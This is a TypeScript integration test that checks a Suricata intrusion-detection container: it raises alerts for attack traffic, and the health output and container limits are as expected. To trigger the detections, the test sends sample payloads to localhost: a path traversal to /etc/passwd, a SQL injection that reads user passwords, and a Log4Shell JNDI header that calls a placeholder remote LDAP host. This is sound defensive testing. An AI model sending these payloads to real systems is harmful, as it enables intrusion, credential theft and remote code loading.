import { request } from 'node:http';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { docker } from '../../support/cli.ts';
import { json } from '../../support/command.ts';
import { until } from '../../support/stack.ts';
import { type Workspace, workspace } from '../../support/workspace.ts';

const MEMORY = 192 * 1024 ** 2;

let space: Workspace;
const must = async (...args: string[]) => {
  const done = await space.run(args);
  expect({ args, status: done.status, stderr: done.stderr }).toMatchObject({ status: 0 });
  return done.stdout;
};
const check = async () => {
  const { checks } = json((await space.run(['health', '--json'])).stdout) as unknown as {
    checks: { id: string; status: string; message: string; value?: number }[];
  };
  return checks.find(({ id }) => id === 'intrusion');
};
/** A request to the plain port, its path as it is: a client of the language would tidy it up. */
const ask = (path: string, headers: Record<string, string> = {}) =>
  new Promise<number>((resolve, reject) => {
    request({ host: '127.0.0.1', port: space.httpPort, path, headers }, (answer) => {
      answer.resume();
      resolve(answer.statusCode ?? 0);
    })
      .on('error', reject)
      .end();
  });

beforeAll(async () => {
  space = await workspace('intrusion');
  const components = { app: false, postgres: false, redis: false, backup: false, agent: false, 'engine-proxy': false, suricata: true };
  space.configure({ profile: 'dev-compose', observability: 'off', components });
  await must('up');
}, 600_000);
afterAll(() => space?.destroy());

test('a line of an attack raises an alert, which health tells; a request of a visitor raises none', async () => {
  expect(await check()).toMatchObject({ status: 'ok' });
  await ask('/search?title=Select%20a%20film%20from%20the%20list&or=1');
  await ask('/a/../../etc/passwd');
  await ask('/?id=1%20union%20select%20password%20from%20users');
  await ask('/', { 'X-Api': `\${jndi:ldap://192.0.2.1/a}` });
  await until('health tells of it', async () => ((await check())?.value ?? 0) >= 4, 20);
  const told = await check();
  expect(told).toMatchObject({ status: 'warn', value: 4 });
  const said = await must('logs', 'suricata');
  const raised = [...new Set([...said.matchAll(/"signature":"([^"]+)"/g)].map(([, signature]) => signature))].sort();
  expect(raised, said).toEqual([
    'MediaNest: Log4Shell in a header',
    'MediaNest: SQL in a request',
    'MediaNest: path traversal in a request',
    'MediaNest: request for files of the system',
  ]);
}, 60_000);

test('it has one capability, the interfaces of the host, no port, and less memory than its limit', async () => {
  const { stdout } = await docker(['inspect', `${space.project}-suricata-1`]);
  const [{ HostConfig }] = JSON.parse(stdout) as [{ HostConfig: Record<string, unknown> }];
  expect(HostConfig).toMatchObject({ NetworkMode: 'host', CapAdd: ['CAP_NET_RAW'], CapDrop: ['ALL'], Privileged: false, Memory: MEMORY });
  const top = (await docker(['top', `${space.project}-suricata-1`, '-o', 'pid,rss,args'])).stdout;
  const rss = Number(/^\s*\d+\s+(\d+)\s+suricata -c/m.exec(top)?.[1]) * 1024;
  expect(rss).toBeGreaterThan(10 * 1024 ** 2);
  expect(rss).toBeLessThan(MEMORY / 2);
}, 30_000);
